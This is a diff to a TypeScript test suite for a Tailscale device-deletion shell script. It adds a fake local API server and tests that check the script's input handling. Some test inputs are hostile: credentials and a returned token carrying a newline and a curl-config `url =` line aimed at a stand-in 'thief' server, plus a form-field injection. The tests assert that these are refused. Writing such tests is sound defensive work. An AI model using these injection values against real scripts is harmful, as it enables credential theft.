@@ -138,31 +138,48 @@ test("ready.sh lets warnings through", (t) => {
     assert.match(r.stderr, /deprecated key/);
 });
 
-/** A stand-in for the Tailscale API on 127.0.0.1: two machines, records what was asked. */
-async function fakeTailscale(): Promise<{ url: string; calls: string[]; close: () => void }> {
+/** A device as the Tailscale API lists it (the fields the scripts read). */
+interface FakeDevice { id: string; nodeId?: string; hostname: string; name: string; tags?: string[]; nodeKey?: string }
+
+/**
+ * A stand-in for the Tailscale API on 127.0.0.1: holds `devices`, records every request (method,
+ * path, authorization header) in `calls` and their bodies in `bodies`; DELETE removes a device.
+ */
+async function fakeTailscale(opts: { devices?: FakeDevice[]; token?: string } = {}): Promise<{ url: string; calls: string[]; bodies: string[]; devices: FakeDevice[]; close: () => void }> {
     const calls: string[] = [];
-    const devices = [
+    const bodies: string[] = [];
+    const devices: FakeDevice[] = opts.devices ?? [
         { id: "n1", hostname: "project-myapp", name: "project-myapp.bat-boa.ts.net" },
         { id: "n2", hostname: "project-myapp-1", name: "project-myapp-1.bat-boa.ts.net" },
         { id: "n3", hostname: "laptop", name: "laptop.bat-boa.ts.net" },
         { id: "n4", hostname: "project-myapp", name: "project-myapp-2.bat-boa.ts.net" },
     ];
     const server = http.createServer((req, res) => {
-        calls.push(`${req.method} ${req.url} ${req.headers.authorization ?? ""}`);
-        if (req.method === "POST" && req.url === "/api/v2/oauth/token") {
-            res.end(JSON.stringify({ access_token: "oauth-token" }));
-        } else if (req.method === "GET" && req.url === "/api/v2/tailnet/-/devices") {
-            res.end(JSON.stringify({ devices }));
-        } else if (req.method === "DELETE" && req.url?.startsWith("/api/v2/device/")) {
-            res.end("{}");
-        } else {
-            res.statusCode = 404;
-            res.end();
-        }
+        let body = "";
+        req.on("data", (c) => { body += c; });
+        req.on("end", () => {
+            calls.push(`${req.method} ${req.url} ${req.headers.authorization ?? ""}`);
+            bodies.push(body);
+            const byId = (id: string) => devices.findIndex((d) => d.nodeId === id || d.id === id);
+            const device = /^\/api\/v2\/device\/([^/?]+)(\?fields=all)?$/.exec(req.url ?? "");
+            if (req.method === "POST" && req.url === "/api/v2/oauth/token") {
+                res.end(JSON.stringify({ access_token: opts.token ?? "oauth-token" }));
+            } else if (req.method === "GET" && req.url?.startsWith("/api/v2/tailnet/-/devices")) {
+                res.end(JSON.stringify({ devices }));
+            } else if (req.method === "GET" && device && byId(device[1]) >= 0) {
+                res.end(JSON.stringify(devices[byId(device[1])]));
+            } else if (req.method === "DELETE" && device && byId(device[1]) >= 0) {
+                devices.splice(byId(device[1]), 1);
+                res.end("{}");
+            } else {
+                res.statusCode = 404;
+                res.end(JSON.stringify({ message: "not found" }));
+            }
+        });
     });
     await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
     const { port } = server.address() as AddressInfo;
-    return { url: `http://127.0.0.1:${port}`, calls, close: () => server.close() };
+    return { url: `http://127.0.0.1:${port}`, calls, bodies, devices, close: () => server.close() };
 }
 
 function runTailnet(env: Record<string, string>): Promise<{ code: number; stderr: string }> {
@@ -184,6 +201,7 @@ test("tailnet.sh deletes exactly the VM's machine, with the API key or an OAuth 
         assert.match(withKey.stderr, /deleted tailnet machine project-myapp \(n1\)/);
 
         api.calls.length = 0;
+        api.devices.unshift({ id: "n1", hostname: "project-myapp", name: "project-myapp.bat-boa.ts.net" });
         const withOauth = await runTailnet({ TS_BASE_URL: api.url, TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: "csecret" });
         assert.equal(withOauth.code, 0, withOauth.stderr);
         assert.deepEqual(api.calls, ["POST /api/v2/oauth/token ", "GET /api/v2/tailnet/-/devices Bearer oauth-token", "DELETE /api/v2/device/n1 Bearer oauth-token"]);
@@ -196,4 +214,63 @@ test("tailnet.sh deletes exactly the VM's machine, with the API key or an OAuth 
     }
     const script = hostScript("tailnet.sh", "tailnet_node_delete");
     assert.ok(!/-H "Authorization/.test(script), "no bearer token in curl's arguments");
+});
+
+test("tailnet.sh quotes every value it hands curl: hostile credentials reach no other URL, and are refused or sent exactly", async (t) => {
+    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
+    const api = await fakeTailscale({ devices: [] });
+    const thief = await fakeTailscale({ devices: [] });
+    const steal = `a"\nurl = "${thief.url}/steal`;
+    try {
+        // A newline (or any control character) has no safe spelling in curl's config: refused.
+        for (const env of [
+            { TS_OAUTH_CLIENT_ID: steal, TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
+            { TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: steal },
+            { TS_OAUTH_CLIENT_ID: "cid\r", TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
+            { TS_API_KEY: steal },
+            { TS_API_KEY: "tskey-api-x\tY" },
+        ]) {
+            const r = await runTailnet({ TS_BASE_URL: api.url, ...env });
+            assert.deepEqual(thief.calls, [], `nothing reached another URL: ${JSON.stringify(env)}`);
+            assert.notEqual(r.code, 0, `refused: ${JSON.stringify(env)}`);
+            assert.match(r.stderr, /newline or another control character|is not an API key/);
+        }
+        assert.deepEqual(thief.calls, [], "nothing reached another URL");
+        assert.deepEqual(api.calls, [], "nothing was sent with a broken value");
+
+        // Quotes, backslashes and spaces are sent exactly, URL-encoded as form fields.
+        const id = 'c"i d\\ & x=1 \\"';
+        const secret = 'tskey-client-"\\ secret&client_id=evil';
+        const r = await runTailnet({ TS_BASE_URL: api.url, TS_OAUTH_CLIENT_ID: id, TS_OAUTH_CLIENT_SECRET: secret });
+        assert.equal(r.code, 0, r.stderr);
+        assert.equal(api.calls[0], "POST /api/v2/oauth/token ");
+        const form = new URLSearchParams(api.bodies[0]);
+        assert.deepEqual([...form.entries()], [["client_id", id], ["client_secret", secret]]);
+        assert.deepEqual(thief.calls, []);
+
+        // An API key with a quote or backslash is not a key: refused before it reaches a header.
+        api.calls.length = 0;
+        const quoted = await runTailnet({ TS_BASE_URL: api.url, TS_API_KEY: 'tskey-api-"x\\' });
+        assert.notEqual(quoted.code, 0);
+        assert.deepEqual(api.calls, []);
+    } finally {
+        api.close();
+        thief.close();
+    }
+});
+
+test("tailnet.sh refuses a token from the API that is not one, before it reaches a header", async (t) => {
+    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
+    const thief = await fakeTailscale({ devices: [] });
+    const api = await fakeTailscale({ token: `tok"\nurl = "${thief.url}/steal` });
+    try {
+        const r = await runTailnet({ TS_BASE_URL: api.url, TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" });
+        assert.notEqual(r.code, 0);
+        assert.match(r.stderr, /returned something that is not a token/);
+        assert.deepEqual(api.calls, ["POST /api/v2/oauth/token "], "no call with it");
+        assert.deepEqual(thief.calls, []);
+    } finally {
+        api.close();
+        thief.close();
+    }
 });
